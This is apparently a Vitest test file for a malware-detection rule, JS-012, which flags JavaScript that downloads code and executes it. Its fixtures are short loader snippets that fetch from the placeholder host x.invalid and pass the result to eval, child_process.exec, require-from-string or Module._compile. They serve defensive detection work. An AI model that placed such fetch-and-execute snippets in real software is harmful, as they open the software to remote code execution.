import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-012 remote-code-execution-flow', () => {
  it('follows response chunks accumulated in callbacks into eval', async () => {
    const code = `require('https').get('https://x.invalid/p', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)); });`;
    const f = await ruleFindings('JS-012', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.category).toBe('dropper');
  });
  it('follows fetch().then chains and await into child_process', async () => {
    const code = `(async () => { const r = await fetch('https://x.invalid/c'); const cmd = await r.text(); require('child_process').exec(cmd); })();`;
    expect(await ruleFindings('JS-012', code)).toHaveLength(1);
  });
  it('ignores JSON responses that are only parsed', async () => {
    const code = `(async () => { const r = await fetch('https://x.invalid/v'); const j = await r.json(); console.log(j.version); })();`;
    expect(await ruleFindings('JS-012', code)).toHaveLength(0);
  });
});

describe('JS-012 evidence of where the code comes from', () => {
  it('records a constant address (what a loader has)', async () => {
    const code = `fetch('https://x.invalid/stage2.js').then((r) => r.text()).then((t) => eval(t));`;
    const f = await ruleFindings('JS-012', code);
    expect(f[0]?.evidence?.fixedUrl).toBe('https://x.invalid/stage2.js');
  });
  it("records none for an address the application computes (a dev server's lazy bundles)", async () => {
    const code = `async function load(server, id) { const r = await fetch(server + '/bundles/' + id); const body = await r.text(); globalThis.eval(body); }`;
    const f = await ruleFindings('JS-012', code);
    expect(f).toHaveLength(1);
    expect(f[0]!.evidence?.fixedUrl).toBeUndefined();
  });
  it('sees downloaded code compiled by require-from-string', async () => {
    const rfs = `const requireFromString = require('require-from-string');
      fetch('https://x.invalid/s.js').then((r) => r.text()).then((t) => requireFromString(t));`;
    expect((await ruleFindings('JS-012', rfs))[0]?.severity).toBe('critical');
  });
  it('sees downloaded code compiled as a CommonJS module (new Module()._compile)', async () => {
    const compile = `const https = require('https'); const Module = require('module');
      https.get('https://x.invalid/s.js', (r) => { let d = ''; r.on('data', (c) => (d += c));
        r.on('end', () => { const m = new Module('x'); m._compile(d, 'x.js'); }); });`;
    const f = await ruleFindings('JS-012', compile);
    expect(f[0]?.severity).toBe('critical');
    expect(f[0]?.message).toMatch(/module\._compile/);
  });
  it('a template engine compiling a fetched template is not module compilation', async () => {
    const code = `const tpl = new Engine();
      fetch('https://x.invalid/t.html').then((r) => r.text()).then((t) => tpl._compile(t));`;
    expect(await ruleFindings('JS-012', code)).toHaveLength(0);
  });
});
